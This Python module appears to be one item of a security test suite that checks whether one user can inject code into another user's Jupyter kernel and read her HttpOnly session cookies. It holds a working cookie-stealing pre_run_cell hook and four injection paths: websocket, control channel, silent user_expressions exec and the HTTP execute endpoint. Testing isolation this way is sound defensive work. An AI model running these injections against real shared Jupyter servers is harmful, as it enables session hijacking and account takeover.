"""Item 7: bob joins alice's kernel and reads cookies that the server gives it later."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Awaitable, Callable

from people import KernelSocket, Person

from attack_cases.stage import SETUP, BrokenAttackError, Row, Stage, run

#: HttpOnly cookies of frameworks, on no list; ``theme`` is one that the admin shares.
NAMES = ("sessionid", "connect.sid", "_gitlab_session", "id_token", "laravel_session")
#: Every cell that runs from now on is asked for its cookies.
HOOK = """
import builtins, jupyter_session_user as _j
builtins.stolen = {}
def _steal(*_):
    try:
        stolen.update(_j.get_cookies())
    except Exception as error:
        stolen["failed"] = repr(error)
get_ipython().events.register("pre_run_cell", _steal)
"""
_RAW = """
from jupyter_session_user.kernel.live_session import ask
from jupyter_session_user.core.cookies import Cookies
print(json.dumps(ask(alice_id, "cookies")))
"""


def cookies(when: str) -> dict[str, str]:
    """Return the cookies that alice's browser has then."""
    return {name: f"{when}-{name}" for name in (*NAMES, "theme")}


async def _by_websocket(bob: Person, kernel: str) -> None:
    socket = await bob.connect(kernel)
    await run(socket, HOOK)
    await socket.close()


async def _by_control(bob: Person, kernel: str) -> None:
    socket = await bob.connect(kernel)
    content = {"code": HOOK, "silent": False, "store_history": False, "allow_stdin": False}
    await socket.finish(await socket.send(socket.message("execute_request", content), "control"))
    await socket.close()


async def _by_silent_expression(bob: Person, kernel: str) -> None:
    socket = await bob.connect(kernel)
    content = {"code": "", "silent": True, "user_expressions": {"x": f"exec({HOOK!r})"}}
    await socket.finish(await socket.send(socket.message("execute_request", content)))
    await socket.close()


async def _by_http(bob: Person, kernel: str) -> None:
    queued = await bob.json(f"api/kernels/{kernel}/execute", method="POST", body={"code": HOOK})
    for _ in range(200):
        if (await bob.fetch(queued["request_url"].lstrip("/"))).code == 200:
            return
        await asyncio.sleep(0.05)
    raise BrokenAttackError("bob's cell never ran")


#: How bob gets his code into the kernel.
DOORS: dict[str, Callable[[Person, str], Awaitable[None]]] = {
    "a cell by websocket": _by_websocket,
    "a cell on the control channel": _by_control,
    "user_expressions of a silent request": _by_silent_expression,
    "a cell by nbmodel's POST execute": _by_http,
}


async def joined(stage: Stage) -> AsyncIterator[Row]:
    """Bob's code waits in the kernel for alice's next login."""
    for name, join in DOORS.items():
        alice, bob = stage.person("alice", **cookies("before")), stage.person("bob")
        kernel = await alice.start_kernel()
        await _use(alice, kernel, SETUP + "alice_id = get_session().id; get_cookies()")
        await join(bob, kernel)
        alice.cookies.update(cookies("after"))
        await _use(alice, kernel, "alice_id = get_session().id")
        told = await _use(bob, kernel, "print(json.dumps(stolen))")
        yield _row(f"{name}; a hook reads get_cookies() in her cell", json.loads(told))
        if join is _by_websocket:
            raw = json.loads(await _use(bob, kernel, _RAW))
            yield _row("bob asks the server for her session's cookies", _values(raw))
        await alice.fetch(f"api/kernels/{kernel}", method="DELETE")
    async for row in _before_alice(stage):
        yield row


async def _before_alice(stage: Stage) -> AsyncIterator[Row]:
    """Bob joins her new kernel before alice has sent anything to it."""
    alice, bob = stage.person("alice", **cookies("after")), stage.person("bob")
    kernel = await alice.start_kernel()
    await _by_websocket(bob, kernel)
    await _use(alice, kernel, SETUP)
    told = await _use(bob, kernel, "print(json.dumps(stolen))")
    yield _row("bob is in her kernel before her first cell", json.loads(told))
    await alice.fetch(f"api/kernels/{kernel}", method="DELETE")


async def _use(person: Person, kernel: str, code: str) -> str:
    """Run a cell over a new websocket, which shows the cookies that the browser has now."""
    socket: KernelSocket = await person.connect(kernel)
    try:
        return await run(socket, code)
    finally:
        await socket.close()


def _values(wire: object) -> dict[str, str]:
    """Return the cookies in an answer of the server, however it writes them."""
    text = json.dumps(wire)
    return {name: f"after-{name}" for name in (*NAMES, "theme") if f"after-{name}" in text}


def _row(attack: str, stolen: dict[str, str]) -> Row:
    if stolen.get("theme") != "after-theme":
        raise BrokenAttackError(f"not even the shared cookie was read: {stolen}")
    got = [name for name in NAMES if stolen.get(name) == f"after-{name}"]
    return Row(7, attack, not got, f"bob has {', '.join(got) or 'the shared cookie alone'}")
